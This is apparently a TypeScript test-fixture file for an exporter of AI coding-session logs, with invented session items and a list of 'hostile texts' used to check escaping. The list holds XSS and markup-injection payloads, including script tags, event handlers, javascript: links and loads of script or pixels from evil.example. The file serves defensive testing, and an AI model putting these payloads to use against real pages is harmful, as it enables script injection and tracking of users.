// Items for the tests of exports: a small invented session to read, and one that puts a given text into every field of
// every kind. Nothing here comes from a log.

import { eventId, threadId } from '../../src/model/ids.ts'
import type { SessionHead } from '../../src/render/words.ts'
import type { Tone, ViewItem, ViewKind, ViewPart } from '../../src/view/view.ts'

export const kinds: ViewKind[] = [
  'prompt',
  'delegation',
  'answer',
  'thinking',
  'call',
  'result',
  'command',
  'notification',
  'interruption',
  'error',
  'compaction',
  'summary',
  'branch',
  'hook',
  'notice',
  'attachment',
  'link',
  'unknown',
  'damaged',
]

export function item(kind: ViewKind, headline: string, body: ViewPart[] = [], more: Partial<ViewItem> = {}): ViewItem {
  return {
    id: eventId(`${kind}-1`),
    kind,
    actor: kind === 'prompt' ? 'human' : 'agent',
    thread: threadId('main'),
    at: '2026-02-17T14:31:00.000Z',
    headline,
    badges: [],
    body,
    isQuiet: kind === 'thinking' || kind === 'hook' || kind === 'notice',
    ...more,
  }
}

export const head: SessionHead = {
  id: 'a1b2',
  title: 'Fix the rounding bug',
  project: '/home/mira/shop',
  startedAt: '2026-02-17T14:31:00.000Z',
  endedAt: '2026-02-17T16:02:00.000Z',
  models: ['claude-x'],
  versions: ['2.1.0'],
  files: ['/home/mira/.claude/projects/shop/a1b2.jsonl'],
}

/** Every kind of part with the text wherever a part has text. */
export function everyPart(text: string, isInside = false): ViewPart[] {
  const tones: Tone[] = ['plain', 'bad']
  const parts: ViewPart[] = [
    { type: 'markdown', text },
    ...tones.map((tone): ViewPart => ({ type: 'text', text, tone, label: text, spillFile: text })),
    { type: 'text', text, tone: 'quiet', isFolded: true },
    { type: 'code', text, language: text, startLine: 3 },
    { type: 'code', text, language: text, isFolded: true },
    {
      type: 'diff',
      path: text,
      added: 1,
      removed: 1,
      isComputed: true,
      hunks: [
        {
          oldStart: 1,
          newStart: 1,
          lines: [
            { sign: ' ', text },
            { sign: '-', text: `same ${text} words` },
            { sign: '+', text: `same ${text}${text} words` },
          ],
        },
      ],
    },
    {
      type: 'checklist',
      items: (['open', 'active', 'done', 'dropped'] as const).map(state => ({ text, state })),
    },
    { type: 'facts', facts: [{ name: text, value: text }] },
    { type: 'media', media: 'image', mediaType: text, bytes: 12_000, data: text },
    { type: 'media', media: 'image', mediaType: 'image/png', bytes: 12_000, data: text },
  ]
  if (isInside) return parts
  const inner = kinds.map(kind =>
    item(kind, text, everyPart(text, true), { id: eventId(text), thread: threadId(text) }),
  )
  parts.push({ type: 'thread', thread: threadId(text), agentType: text, linkedBy: text, items: inner })
  parts.push({ type: 'branch', leaf: eventId(text), items: inner })
  return parts
}

/** Every kind of item with the text in every field that may have text. */
export function everyItem(text: string): ViewItem[] {
  return kinds.flatMap((kind, turn) => [
    item(kind, text, everyPart(text, kind !== 'call' && kind !== 'branch'), {
      id: eventId(text),
      thread: threadId(text),
      at: text,
      turn,
      badges: [{ text, tone: 'bad' }],
      isRemoved: turn % 3 === 2,
    }),
    item(kind, `${text}  ${text}`, [], { isQuiet: true, isAborted: true, badges: [{ text, tone: 'quiet' }] }),
  ])
}

export function everyHead(text: string): SessionHead {
  return {
    id: text,
    title: text,
    project: text,
    startedAt: text,
    endedAt: text,
    models: [text],
    versions: [text],
    files: [text, text],
    notes: [text],
  }
}

/** Texts that try to become more than text. */
export const hostileTexts: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)',
  '` onclick=`alert(1)',
  '</style><style>body{background:url(https://evil.example)}</style>',
  '</title><iframe src="https://evil.example"></iframe>',
  '</code></pre><form action="https://evil.example"><button>x</button></form>',
  '</details></section></main></body></html><h1>outside</h1>',
  ']]><!--x--><![CDATA[y]]>',
  '<!-- --><base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1) "title")',
  '[click](&#106;avascript:alert(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](https://ok.example/" onclick="alert(1))',
  '[click]( https://ok.example )',
  '<javascript:alert(1)>',
  '<https://ok.example/?a=1&b=2>',
  '![pixel](https://evil.example/pixel.png)',
  '![pixel][r]\n\n[r]: https://evil.example/pixel.png',
  '[a]: javascript:alert(1)\n\n[a]',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'iVBORw0KGgo" onload="alert(1)',
  '```\n```html\n<script>alert(1)</script>\n```',
  '~~~~\n~~~\n<b>x</b>',
  '`````````` ` `` ```',
  '> quote\n>> deeper\n> > > deepest\nlazy',
  '# heading\n## heading\n---\n===\n***',
  'text\n===\ntext\n---',
  '| a | b |\n|---|---|\n| <b>c</b> | d |',
  'a\n:-\nb',
  '- list\n  - deeper\n1. one\n2) two\n+ plus\n* star',
  '- [x] task <b>x</b>\n- [ ] other',
  '    indented code\n\ttab',
  '<details open ontoggle=alert(1)><summary>x</summary>',
  '&lt;script&gt; &#60;b&#62; &amp;amp; &copy',
  '\\<b> \\`code\\` \\\\',
  '**bold *both ~~all `code` [link](https://ok.example)~~***',
  '$$\\href{javascript:alert(1)}{x}$$ $x$',
  '\u0000\u0001\u001b[31mred\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007\u009b',
  'left \u202egnp.exe\u202c \u2066x\u2069 \u200bzero\ufeff',
  '\ud800 lone \udc00 halves',
  'line\u2028separator\u2029paragraph\u0085next\u000bvt\u000cff\rcr\r\ncrlf',
  '＜script＞alert(1)＜/script＞ ʺ onx=ʺ',
  '👩‍👩‍👧 e\u0301 丸め שלום',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  'ﬀ<ſcript>alert(1)</ſcript>',
  '@import url(https://evil.example); expression(alert(1)); } * { x: y',
  '[^1]\n\n[^1]: note <b>x</b>',
  'http://ok.example/<script>alert(1)</script>',
  'mailto:a@b.example?subject=<b>"x"',
  '__proto__ constructor $& $1 %3Cscript%3E {{x}} <%= y %>',
]
